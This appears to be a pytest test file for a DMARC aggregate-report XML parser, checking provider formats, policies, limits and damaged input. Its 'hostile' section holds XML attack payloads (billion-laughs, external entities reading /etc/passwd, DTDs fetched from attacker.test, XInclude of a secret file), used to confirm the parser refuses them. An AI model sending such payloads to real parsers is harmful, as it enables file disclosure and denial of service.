from __future__ import annotations

import pytest
from tests.unit.feedback import reports
from tests.unit.feedback.reports import BOT, DOMAIN, OWN, Row, dkim, plain, spf

from whosent.feedback import aggregate
from whosent.feedback.aggregate import MAX_AUTH, MAX_DEPTH, MAX_KEPT, MAX_RECORDS, MAX_TEXT
from whosent.feedback.unpack import RefusedError
from whosent.model.feedback import Auth, Feedback, Policy

STYLES = [reports.google, reports.microsoft, reports.yahoo, reports.fastmail, reports.recent]


def read(data: bytes, piece: int = 64 * 1024) -> Feedback:
    return aggregate.read(data[start : start + piece] for start in range(0, len(data), piece))


def refused(data: bytes) -> str:
    with pytest.raises(RefusedError) as said:
        read(data)
    return said.value.trouble


@pytest.mark.parametrize("style", STYLES, ids=lambda style: style.__name__)
def test_all_styles_say_the_same(style) -> None:
    found = read(style())
    assert (found.form, found.domain, found.trouble) == ("dmarc", DOMAIN, None)
    assert (found.begin, found.end) == ("2026-11-20T00:00:00Z", "2026-11-20T23:59:59Z")
    assert found.reporter
    assert found.contact
    assert found.report_id
    assert (found.totals.records, found.totals.messages, found.totals.passed, found.totals.failed) == (2, 352, 40, 312)
    assert [(row.source_ip, row.count, row.passed, row.failed) for row in found.records] == [
        (BOT.ip, 312, False, True), (OWN.ip, 40, True, False),
    ]  # fmt: skip
    assert [row.header_from for row in found.records] == [DOMAIN, DOMAIN]


def test_pieces_may_end_anywhere() -> None:
    assert read(reports.microsoft(), piece=1) == read(reports.microsoft())


def test_the_domain_that_vouched_is_another_one() -> None:
    (row, _) = read(reports.fastmail()).records
    assert row.auth == (
        Auth("dkim", "liste.test", "fail"), Auth("dkim", "versand.test", "pass", "s1"),
        Auth("spf", "bounce.versand.test", "pass"),
    )  # fmt: skip
    assert row.vouched_by == "versand.test"


def test_envelope_and_disposition() -> None:
    (row, other) = read(reports.microsoft()).records
    assert (row.envelope_from, row.disposition) == ("bounce.shop.test", "reject")
    assert other.disposition == "none"


def test_the_policy_of_both_schemas() -> None:
    assert read(reports.recent()).policy == Policy(DOMAIN, "reject", None, "reject")
    old = reports.plain().replace(b"<pct>100</pct>", b"<sp>quarantine</sp><pct>20</pct>")
    assert read(old).policy == Policy(DOMAIN, "none", "quarantine", None, testing=True)
    new = reports.recent().replace(b"<testing>n<", b"<testing>y<")
    assert read(new).policy == Policy(DOMAIN, "reject", None, "reject", testing=True)


def test_an_extension_changes_nothing() -> None:
    found = read(reports.recent())
    assert found.domain == DOMAIN
    assert not [one for row in found.records for one in row.auth if one.domain == "other.test"]


def test_fields_of_drafts_from_before_the_rfc() -> None:
    old = plain().replace(b"identifiers>", b"identities>")
    assert [row.header_from for row in read(old).records] == [DOMAIN, DOMAIN]


def test_without_a_policy_the_rows_name_the_domain() -> None:
    assert read(plain().replace(b"policy_published", b"unknown")).domain == DOMAIN


@pytest.mark.parametrize("reason", ["forwarded", "mailing_list", "trusted_forwarder"])
def test_overrides_tell_who_only_passed_it_on(reason: str) -> None:
    (row,) = read(plain(BOT._replace(reason=reason))).records
    assert row.forwarded
    assert not read(plain(BOT._replace(reason="local_policy"))).records[0].forwarded


@pytest.mark.parametrize(
    ("results", "passed", "failed"),
    [(("pass", "fail"), True, False), (("fail", "pass"), True, False), (("fail", "fail"), False, True),
     (("", ""), False, False), (("PASS ", ""), True, False), (("none", "fail"), False, True)],
)  # fmt: skip
def test_passed_failed_or_not_said(results: tuple[str, str], passed: bool, failed: bool) -> None:
    (row,) = read(plain(Row("203.0.113.1", 1, *results))).records
    assert (row.passed, row.failed) == (passed, failed)


@pytest.mark.parametrize(
    ("text", "count"), [("7", 7), ("0", 0), ("-5", 0), ("1e9", 0), ("", 0), ("٣", 0), ("9" * 10, 10**9), ("9" * 30, 0)]
)
def test_numbers_of_messages_are_numbers_of_messages(text: str, count: int) -> None:
    assert read(plain(Row("203.0.113.1", 1)).replace(b"<count>1<", f"<count>{text}<".encode())).totals.messages == count


@pytest.mark.parametrize(
    ("printed", "ip"),
    [("2001:DB8::1", "2001:db8::1"), ("::ffff:203.0.113.9", "203.0.113.9"), ("unknown", None), ("1.2.3.4.5", None)],
)
def test_addresses_in_one_form(printed: str, ip: str | None) -> None:
    assert read(plain(Row(printed, 1))).records[0].source_ip == ip


@pytest.mark.parametrize("stamp", ["0", "-1", "1e9", "99999999999999999999", "soon", ""])
def test_a_date_that_is_none_is_none(stamp: str) -> None:
    assert read(plain().replace(b"<begin>1795132800<", f"<begin>{stamp}<".encode())).begin is None


def test_the_largest_rows_are_kept_and_all_are_counted() -> None:
    rows = [Row(f"203.0.113.{n % 250}", n) for n in range(1, MAX_KEPT + 101)]
    found = read(plain(*rows))
    assert [row.count for row in found.records] == list(range(101, MAX_KEPT + 101))
    assert found.totals.messages == found.totals.failed == sum(row.count for row in rows)
    assert found.totals.records == len(rows)


def test_after_the_last_row_that_is_allowed_no_more_is_read() -> None:
    line = reports.record(Row("203.0.113.1", 1))
    data = plain().replace(b"</feedback>", line.encode() * MAX_RECORDS + b"</feedback>")
    found = read(data)
    assert found.trouble == "too-large"
    assert found.totals.records == MAX_RECORDS
    assert found.domain == DOMAIN


def test_a_report_that_is_cut_off_keeps_what_it_said() -> None:
    data = plain()
    found = read(data[: data.index(OWN.ip.encode())])
    assert found.trouble == "damaged"
    assert [row.source_ip for row in found.records] == [BOT.ip]


def test_the_text_of_an_element_is_kept_up_to_a_limit() -> None:
    found = read(plain().replace(b"<org_name>", b"<org_name>" + b"x" * 9_000_000))
    assert found.reporter == "x" * 255
    assert MAX_TEXT < 9_000_000


def test_signatures_of_one_row_are_limited() -> None:
    (row,) = read(plain(BOT._replace(auth=dkim("a.test") * 5_000 + spf("b.test")))).records
    assert len(row.auth) == MAX_AUTH


def test_control_characters_and_what_is_no_domain() -> None:
    found = read(plain().replace(b">post.example<", b">po&#10;st.ex&#9;ample<").replace(b"<domain>", b"<domain>a b;"))
    assert found.reporter == "po st.ex ample"
    assert found.policy is not None
    assert found.policy.domain is None


# --- hostile ----------------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "subset",
    [
        f'[<!ENTITY l0 "ha">{LAUGHS}]',
        '[<!ENTITY a "' + "x" * 100_000 + '">]',
        '[<!ENTITY a SYSTEM "file:///etc/passwd">]',
        'SYSTEM "http://attacker.test/evil.dtd"',
        '[<!ENTITY % p SYSTEM "http://attacker.test/p"> %p;]',
        '[<!ATTLIST feedback x CDATA "y">]',
        "",
    ],
    ids=["billion-laughs", "quadratic", "external", "external-dtd", "parameter", "attribute", "bare"],
)  # fmt: skip
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "iso-8859-1"])
def test_a_dtd_is_refused_whatever_it_holds(subset: str, encoding: str) -> None:
    use = "&l9;" if "l9" in subset else "&a;" * 1_000 if "ENTITY a" in subset else ""
    declared = "" if encoding == "utf-16-le" else f'<?xml version="1.0" encoding="{encoding}"?>'
    mark = "\ufeff" if encoding == "utf-16-le" else ""
    text = f"{mark}{declared}<!DOCTYPE feedback {subset}>" + plain().decode().replace("post.example", use or "x", 1)
    assert refused(text.encode(encoding)) == "doctype"


def test_an_entity_without_a_dtd_is_an_error() -> None:
    assert read(plain().replace(b">post.example<", b">&laugh;<")).trouble == "damaged"


def test_deep_nesting_is_refused() -> None:
    assert read(plain().replace(b"</feedback>", b"<a>" * 100_000)).trouble == "too-large"
    shallow = b"<a>" * (MAX_DEPTH - 1) + b"</a>" * (MAX_DEPTH - 1)
    assert read(plain().replace(b"</feedback>", shallow + b"</feedback>")).trouble is None


def test_more_elements_than_any_report_has(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(aggregate, "MAX_ELEMENTS", 1_000)
    assert read(plain().replace(b"</feedback>", b"<a/>" * 1_000 + b"</feedback>")).trouble == "too-large"


def test_made_up_element_names_are_not_kept() -> None:
    noise = "".join(f"<n{number}>x</n{number}>" for number in range(20_000)).encode()
    assert read(plain().replace(b"</report_metadata>", b"</report_metadata>" + noise)) == read(plain())


def test_an_inclusion_is_not_followed(tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    found = read(plain().replace(b">post.example<", f">{include}<".encode()))
    assert "secret" not in (found.reporter or "")


@pytest.mark.parametrize(
    ("data", "trouble"),
    [
        (b"<html><body>Sorry</body></html>", "no-report"),
        (b"<?xml version='1.0'?>", "damaged"),
        (b"", "damaged"),
        (b"<feed", "no-report"),
        (b"<?xml version='1.0' encoding='x-unknown'?><feedback/>", "damaged"),
        (b"\x00<feedback>", "damaged"),
    ],
)
def test_what_is_no_report(data: bytes, trouble: str) -> None:
    assert refused(data) == trouble


def test_an_empty_report_is_one() -> None:
    found = read(b"<feedback/>")
    assert (found.domain, found.records, found.totals.messages) == (None, (), 0)


def test_without_lxml_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "lxml.etree", None)
    assert refused(plain()) == "needs-lxml"
